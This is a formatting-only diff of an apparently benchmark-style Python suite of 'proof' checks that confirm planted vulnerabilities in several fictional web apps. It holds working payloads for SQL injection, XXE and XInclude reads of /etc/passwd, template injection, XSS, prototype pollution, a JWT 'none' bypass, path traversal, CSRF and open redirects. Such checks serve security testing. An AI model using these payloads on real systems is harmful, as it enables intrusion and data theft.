@@ -42,14 +42,9 @@ def _(client, name):
 @proof("gym", "sort-sql")
 def _(client):
     def order(condition):
-        return [
-            entry["id"]
-            for entry in client.get("/classes", params={"sort": f"CASE WHEN ({condition}) THEN id ELSE -id END"}).json()
-        ]
+        return [entry["id"] for entry in client.get("/classes", params={"sort": f"CASE WHEN ({condition}) THEN id ELSE -id END"}).json()]
 
-    return order("SELECT wage FROM classes WHERE id = 2) = (42") == [1, 2, 3, 4] and order(
-        "SELECT wage FROM classes WHERE id = 2) = (41"
-    ) == [4, 3, 2, 1]
+    return order("SELECT wage FROM classes WHERE id = 2) = (42") == [1, 2, 3, 4] and order("SELECT wage FROM classes WHERE id = 2) = (41") == [4, 3, 2, 1]
 
 
 @proof("gym", "receipt-nested")
@@ -104,12 +99,7 @@ def _(client):
 
 @proof("gym", "class-removed")
 def _(client):
-    assert (
-        client.post(
-            "/classes", json={"title": "x", "coach": "y", "day": "Mon", "seats": 3}, headers=client.as_("ann")
-        ).status_code
-        == 403
-    )
+    assert client.post("/classes", json={"title": "x", "coach": "y", "day": "Mon", "seats": 3}, headers=client.as_("ann")).status_code == 403
     client.delete("/classes/3", headers=client.as_("ann"))
     return client.get("/classes/3").status_code == 404
 
@@ -123,10 +113,7 @@ def _(client):
 @proof("gym", "cors-prefix")
 def _(client):
     headers = client.get("/version", headers={"Origin": "http://127.0.0.1.elsewhere.example"}).headers
-    return (
-        headers.get("access-control-allow-origin") == "http://127.0.0.1.elsewhere.example"
-        and headers.get("access-control-allow-credentials") == "true"
-    )
+    return headers.get("access-control-allow-origin") == "http://127.0.0.1.elsewhere.example" and headers.get("access-control-allow-credentials") == "true"
 
 
 # auction ----------------------------------------------------------------------------------------------------------------------------------
@@ -141,19 +128,13 @@ def _(client, name):
 
 @proof("auction", "bids-shown")
 def _(client):
-    return any(
-        bid["bidder"] == "carol" and "maximum" in bid
-        for bid in client.get("/lots/1/bids", headers=client.as_("ben")).json()["bids"]
-    )
+    return any(bid["bidder"] == "carol" and "maximum" in bid for bid in client.get("/lots/1/bids", headers=client.as_("ben")).json()["bids"])
 
 
 @proof("auction", "coupon-twice")
 def _(client):
     ann = client.as_("ann")
-    return [
-        client.post("/invoices/INV-2031-0001.txt/coupon", json={"code": "LOYAL-10"}, headers=ann).json().get("total")
-        for _ in range(3)
-    ] == [130, 120, 110]
+    return [client.post("/invoices/INV-2031-0001.txt/coupon", json={"code": "LOYAL-10"}, headers=ann).json().get("total") for _ in range(3)] == [130, 120, 110]
 
 
 @proof("auction", "invoice-file")
@@ -168,20 +149,13 @@ def _(client):
 
 @proof("auction", "draft-state")
 def _(client):
-    return any(
-        lot["seller"] == "ann" and lot["reserve"] == 900
-        for lot in client.get("/lots?state=draft", headers=client.as_("ben")).json()["lots"]
-    )
+    return any(lot["seller"] == "ann" and lot["reserve"] == 900 for lot in client.get("/lots?state=draft", headers=client.as_("ben")).json()["lots"])
 
 
 @proof("auction", "csrf-open")
 def _(client):
     ann = {"Cookie": client.as_("ann")["Cookie"]}
-    client.patch(
-        "/me",
-        content=b'{"address": "9 Elsewhere"}',
-        headers=ann | {"Content-Type": "text/plain", "Origin": "https://elsewhere.example"},
-    )
+    client.patch("/me", content=b'{"address": "9 Elsewhere"}', headers=ann | {"Content-Type": "text/plain", "Origin": "https://elsewhere.example"})
     return client.get("/me", headers=ann).json()["address"] == "9 Elsewhere"
 
 
@@ -210,10 +184,7 @@ def _(client):
 
 @proof("auction", "redirect-prefix")
 def _(client):
-    return (
-        client.get("/go?next=https://auction.example.elsewhere.example/").headers["location"]
-        == "https://auction.example.elsewhere.example/"
-    )
+    return client.get("/go?next=https://auction.example.elsewhere.example/").headers["location"] == "https://auction.example.elsewhere.example/"
 
 
 @proof("auction", "image-decimal")
@@ -245,9 +216,7 @@ def _(client, name):
 
 
 def article(client, name, title):
-    listed = client.get("/articles", params={"filter[author]": name, "filter[title]": title}, headers=client.as_(name)).json()[
-        "data"
-    ]
+    listed = client.get("/articles", params={"filter[author]": name, "filter[title]": title}, headers=client.as_(name)).json()["data"]
     return "/articles/" + listed[0]["id"]
 
 
@@ -295,20 +264,13 @@ def _(client):
 
 @proof("newsroom", "preview-template")
 def _(client):
-    return (
-        "x 1922 y"
-        in client.post(
-            "/newsletters/preview", json=resource("newsletters", template="x {{ 31 * 62 }} y"), headers=client.as_("ann")
-        ).text
-    )
+    return "x 1922 y" in client.post("/newsletters/preview", json=resource("newsletters", template="x {{ 31 * 62 }} y"), headers=client.as_("ann")).text
 
 
 @proof("newsroom", "feed-entities")
 def _(client):
     feed = '<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]><rss><item><title>&e;</title></item></rss>'
-    return (
-        "root:x:0:0" in client.post("/feeds", content=feed, headers=client.as_("ann") | {"Content-Type": "application/xml"}).text
-    )
+    return "root:x:0:0" in client.post("/feeds", content=feed, headers=client.as_("ann") | {"Content-Type": "application/xml"}).text
 
 
 @proof("newsroom", "page-size")
@@ -324,10 +286,7 @@ def _(client):
 @proof("newsroom", "password-unproved")
 def _(client):
     carol = client.as_("carol")
-    assert (
-        client.post("/me/password", json=resource("passwords", current="x", new="aspen-Teapot-37"), headers=carol).status_code
-        == 403
-    )
+    assert client.post("/me/password", json=resource("passwords", current="x", new="aspen-Teapot-37"), headers=carol).status_code == 403
     return client.post("/me/password", json=resource("passwords", new="aspen-Teapot-37"), headers=carol).status_code == 204
 
 
@@ -367,16 +326,12 @@ def _(client):
 
 @proof("fleet", "driver-fields")
 def _(client):
-    return (
-        call(client, client.as_("ann"), "driver.get", id="D-0001", fields=["name", "pin"]).json()["result"].get("pin") == "4171"
-    )
+    return call(client, client.as_("ann"), "driver.get", id="D-0001", fields=["name", "pin"]).json()["result"].get("pin") == "4171"
 
 
 @proof("fleet", "report-sql")
 def _(client):
-    return (
-        "7002 9911 0024" in call(client, client.as_("ann"), "report.fuel", group_by="(SELECT group_concat(card) FROM fuel)").text
-    )
+    return "7002 9911 0024" in call(client, client.as_("ann"), "report.fuel", group_by="(SELECT group_concat(card) FROM fuel)").text
 
 
 @proof("fleet", "trip-operators")
@@ -409,10 +364,7 @@ def _(client):
 
 @proof("fleet", "distance-negative")
 def _(client):
-    return (
-        call(client, client.as_("ann"), "trip.record", vehicle="V-0001", km=-30000).json().get("result", {}).get("odometer")
-        == 11000
-    )
+    return call(client, client.as_("ann"), "trip.record", vehicle="V-0001", km=-30000).json().get("result", {}).get("odometer") == 11000
 
 
 @proof("fleet", "driver-tenant")
@@ -435,13 +387,7 @@ def send_xml(client, method, path, caller, text):
 
 
 def new_deed(client, caller, text):
-    answer = send_xml(
-        client,
-        "POST",
-        "/deeds",
-        caller,
-        f"<deed xmlns:xi='http://www.w3.org/2001/XInclude'><parcel>NX-101</parcel><text>{text}</text></deed>",
-    )
+    answer = send_xml(client, "POST", "/deeds", caller, f"<deed xmlns:xi='http://www.w3.org/2001/XInclude'><parcel>NX-101</parcel><text>{text}</text></deed>")
     return answer.headers.get("location", "/nowhere")
 
 
@@ -453,10 +399,7 @@ def _(client):
 @proof("registry", "deed-include")
 def _(client):
     ann = client.as_("ann")
-    return (
-        "root:x:0:0"
-        in client.get(new_deed(client, ann, "x <xi:include href='file:///etc/passwd' parse='text'/>"), headers=ann).text
-    )
+    return "root:x:0:0" in client.get(new_deed(client, ann, "x <xi:include href='file:///etc/passwd' parse='text'/>"), headers=ann).text
 
 
 @proof("registry", "parcel-xpath")
@@ -474,22 +417,13 @@ def _(client):
 
 @proof("registry", "state-skipped")
 def _(client):
-    return (
-        "registered"
-        in send_xml(client, "PUT", "/deeds/2031-0001/state", client.as_("ann"), "<state>registered</state>").text.partition(
-            "<state>"
-        )[2]
-    )
+    return "registered" in send_xml(client, "PUT", "/deeds/2031-0001/state", client.as_("ann"), "<state>registered</state>").text.partition("<state>")[2]
 
 
 @proof("registry", "scan-inline")
 def _(client):
     ann = client.as_("ann")
-    client.put(
-        "/deeds/2031-0001/scan",
-        content="<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
-        headers=ann | {"Content-Type": "image/svg+xml"},
-    )
+    client.put("/deeds/2031-0001/scan", content="<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", headers=ann | {"Content-Type": "image/svg+xml"})
     answer = client.get("/deeds/2031-0001/scan", headers=ann)
     return answer.headers["content-type"] == "image/svg+xml" and "default-src" not in answer.headers["content-security-policy"]
 
@@ -565,23 +499,12 @@ def _(client):
 
 @proof("canteen", "order-price")
 def _(client):
-    return (
-        client.post(
-            "/orders", json={"day": "2031-05-08", "items": [{"dish": 2, "count": 20, "price": 0.01}]}, headers=client.as_("ann")
-        )
-        .json()
-        .get("total")
-        == 0.2
-    )
+    return client.post("/orders", json={"day": "2031-05-08", "items": [{"dish": 2, "count": 20, "price": 0.01}]}, headers=client.as_("ann")).json().get("total") == 0.2
 
 
 @proof("canteen", "preferences-shared")
 def _(client):
-    client.patch(
-        "/preferences",
-        content='{"__proto__": {"planted": "yes"}}',
-        headers=client.as_("ben") | {"Content-Type": "application/json"},
-    )
+    client.patch("/preferences", content='{"__proto__": {"planted": "yes"}}', headers=client.as_("ben") | {"Content-Type": "application/json"})
     return client.get("/preferences", headers=client.as_("ann")).json().get("planted") == "yes"
 
 
@@ -599,10 +522,7 @@ def _(client):
     claims = json.loads(base64.urlsafe_b64decode(claims + "==")) | {"sub": "olga"}
 
     def served(algorithm):
-        parts = [
-            base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()
-            for part in ({"alg": algorithm, "typ": "JWT"}, claims)
-        ]
+        parts = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode() for part in ({"alg": algorithm, "typ": "JWT"}, claims)]
         return client.get("/office/orders", headers={"Authorization": f"Bearer {'.'.join(parts)}."}).status_code == 200
 
     return served("nOnE") and not served("none")
@@ -622,18 +542,12 @@ def _(client):
 
 @proof("canteen", "recipe-dots")
 def _(client):
-    return (
-        "root:x:0:0" in client.get("/recipes", params={"file": "....//etc/passwd"}).text
-        and client.get("/recipes", params={"file": "../etc/passwd"}).status_code == 404
-    )
+    return "root:x:0:0" in client.get("/recipes", params={"file": "....//etc/passwd"}).text and client.get("/recipes", params={"file": "../etc/passwd"}).status_code == 404
 
 
 @proof("canteen", "topic-attribute")
 def _(client):
-    return (
-        "<input name=topic value=x onfocus=alert(1) autofocus>"
-        in client.get("/help", params={"topic": "x onfocus=alert(1) autofocus"}).text
-    )
+    return "<input name=topic value=x onfocus=alert(1) autofocus>" in client.get("/help", params={"topic": "x onfocus=alert(1) autofocus"}).text
 
 
 @proof("canteen", "link-counted")
